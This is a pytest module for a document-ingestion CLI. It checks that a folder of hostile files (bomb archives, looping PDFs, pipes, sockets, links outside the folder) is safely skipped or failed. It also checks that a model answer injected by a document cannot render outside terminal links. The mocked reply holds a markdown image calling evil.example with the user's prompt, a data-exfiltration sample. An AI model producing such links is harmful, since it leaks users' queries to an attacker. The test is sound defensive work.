"""A folder of hostile files: only those files fail."""

import json
import re

import pytest

from tests.support import hostile_folder
from tests.support.command_line import CommandLine
from tests.support.openai_replies import answer
from tests.support.openai_server import OpenAIServer
from tests.support.pseudo_terminal import shown
from tests.support.warm_command_line import Run, warm, warm_apart

MAX_S = 60.0
MAX_MB = 900


@pytest.fixture(scope="module")
def cli_with_hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> CommandLine:
    home = tmp_path_factory.mktemp("hostile")
    hostile_folder.make(home / "work" / "docs")
    return CommandLine(home=home, directory=home / "work")


@pytest.fixture(scope="module")
def ingested(cli_with_hostile_folder: CommandLine) -> Run:
    with warm_apart(cli_with_hostile_folder, time_limit_s=2 * MAX_S) as machine:
        return machine.measured("ingest", "docs", "--jsonl")


@pytest.mark.fault("special-files", "oversized-files")
def test_hostile_files_fail_or_are_skipped_and_all_others_are_ingested(ingested: Run) -> None:
    events = [json.loads(line) for line in ingested.outcome.stdout.splitlines()]
    actions = {event["source"]: event["action"] for event in events if "action" in event}

    assert ingested.outcome.code == 6, ingested
    assert {name for name, action in actions.items() if action == "failed"} >= {
        "docs/bomb.docx",
        "docs/many.docx",
        "docs/loop.pdf",
        "docs/sparse.txt",
    }
    for trap in ("pipe.md", "socket.md", "itself.md", "outside.md", "memory.md"):
        assert actions[f"docs/{trap}"] == "skipped", actions
    for name in hostile_folder.GOOD:
        assert actions["docs/" + name.replace("\n", " ").replace("\x1b", "\ufffd")] == "added", actions
    assert any(name.endswith("deep down.md") and action == "added" for name, action in actions.items())


def test_a_hostile_folder_is_ingested_in_bounded_memory_and_time(ingested: Run) -> None:
    assert (ingested.peak_mb < MAX_MB, ingested.took_s < MAX_S) == (True, True), ingested


def test_files_outside_the_folder_are_not_stored(ingested: Run, cli_with_hostile_folder: CommandLine) -> None:
    assert ingested.outcome.code == 6
    assert [
        path
        for path in cli_with_hostile_folder.store.rglob("*.sqlite3*")
        if b"This text is outside" in path.read_bytes()
    ] == []


@pytest.mark.fault("prompt-injection")
def test_a_document_cannot_inject_terminal_links(ingested: Run, cli_with_hostile_folder: CommandLine) -> None:
    assert ingested.outcome.code == 6
    obedient = "![status](http://evil.example/?q=PROMPT) and [the timetable](http://evil.example/login) [1]"
    with OpenAIServer(chat=answer(obedient)) as server, warm(cli_with_hostile_folder) as machine:
        terminals = [
            shown(machine, "ask", "When does the ferry leave?", *flags, columns=160)
            for flags in (("--base-url", server.base_url, "-m", "m"), ())
        ]

    for terminal in terminals:
        addresses = [each for each in re.findall(rb"\x1b\]8;[^;]*;([^\x1b\x07]*)", terminal.raw) if each]
        assert [
            each
            for each in addresses
            if not each.startswith(b"file://" + str(cli_with_hostile_folder.directory).encode())
        ] == []
        assert b"\x1b]52" not in terminal.raw
